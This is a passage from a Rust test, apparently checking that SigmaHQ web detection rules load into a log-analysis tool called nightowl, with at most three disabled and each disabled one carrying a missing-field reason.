        "SigmaHQ web rules: {loaded} of {} load, {} of them disabled",
        files.len(),
        not_run.len()
    );
    assert!(refused.is_empty(), "{refused:#?}");
    for why in &not_run {
        assert!(
            why.contains("is not available in nightowl's parsed web logs: "),
            "disabled without a field reason: {why}"
        );
    }
    assert!(not_run.len() <= 3, "{not_run:#?}");
}
